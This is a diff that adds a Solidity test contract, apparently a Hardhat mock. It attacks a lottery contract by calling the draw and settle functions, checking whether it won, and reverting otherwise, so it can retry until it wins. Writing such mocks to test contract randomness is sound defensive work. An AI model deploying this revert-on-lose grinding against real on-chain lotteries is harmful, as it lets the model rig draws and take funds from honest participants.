@@ -0,0 +1,43 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+interface IGrindableLottery {
+    function enter(uint256 quantity) external payable;
+    function drawWinner() external;
+    function settleUnclaimed() external;
+    function withdrawRefund() external;
+    function getWinners() external view returns (address[] memory, uint256[] memory, bool[] memory);
+}
+
+// 模拟挑选开奖结果的参与者：仅用于 Hardhat 测试
+// 调用开奖函数后检查自己是否中奖，未中奖就 revert，攻击者可以在每个区块重试直到中奖
+contract MockDrawGrinder {
+
+    function enter(address lottery, uint256 quantity) external payable {
+        IGrindableLottery(lottery).enter{value: msg.value}(quantity);
+    }
+
+    function drawUnlessLosing(address lottery) external {
+        IGrindableLottery(lottery).drawWinner();
+        _requireWinner(lottery);
+    }
+
+    function settleUnlessLosing(address lottery) external {
+        IGrindableLottery(lottery).settleUnclaimed();
+        _requireWinner(lottery);
+    }
+
+    function withdrawRefund(address lottery) external {
+        IGrindableLottery(lottery).withdrawRefund();
+    }
+
+    function _requireWinner(address lottery) internal view {
+        (address[] memory winners, , ) = IGrindableLottery(lottery).getWinners();
+        for (uint256 i = 0; i < winners.length; i++) {
+            if (winners[i] == address(this)) return;
+        }
+        revert(unicode"未中奖");
+    }
+
+    receive() external payable {}
+}